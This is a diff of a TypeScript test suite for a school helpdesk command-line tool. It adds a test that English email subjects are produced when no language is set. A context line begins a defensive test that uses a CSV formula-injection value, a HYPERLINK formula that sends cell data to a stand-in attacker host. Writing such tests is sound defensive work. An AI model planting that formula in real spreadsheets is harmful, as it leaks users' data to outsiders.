@@ -44,6 +44,17 @@ describe('submit', () => {
     expect(again.emails.map((e: { subject: string }) => e.subject)).toEqual(['Обращение ЭЖ-2026-0005 принято', 'Новое обращение ЭЖ-2026-0005: техническая помощь']);
   });
 
+  it('an English workbook whose Settings name no language is answered in English, as check reads it', () => {
+    const dir = join(mkdtempSync(join(tmpdir(), 'helpdesk-submit-')), 'school');
+    cpSync(SAMPLE_SCHOOL, dir, { recursive: true, filter: (f) => !f.endsWith('.csv') });
+    writeFileSync(join(dir, 'Schedule.csv'), 'Day,Time,Kind of help,Responsible,Room\nTuesday,9:00-13:00,technical,John Smith,Room 14\n');
+    writeFileSync(join(dir, 'Staff.csv'), 'Name,Email,Kind of help\nJohn Smith,smith@example.org,technical\n');
+    writeFileSync(join(dir, 'Settings.csv'), 'Setting,Value\nTime zone,Europe/London\n');
+    const r = runBuiltCli(['submit', dir, '--role', 'parent', '--name', 'Olga West', '--class', '7B', '--email', 'olga@example.org', '--kind', 'technical', '--text', 'x', '--at', '2026-12-01T10:15', '--json']);
+    expect(r.stderr).toBe('');
+    expect(JSON.parse(r.stdout).emails.map((e: { subject: string }) => e.subject)).toEqual(['Request 2026-0001 received', 'New request 2026-0001: technical help']);
+  });
+
   it('text that Excel would run as a formula is saved to CSV behind an apostrophe, and read back as typed, however often it is saved', () => {
     const dir = copyOfSample();
     const name = '=HYPERLINK("https://evil.example/?"&B2,"открыть")';
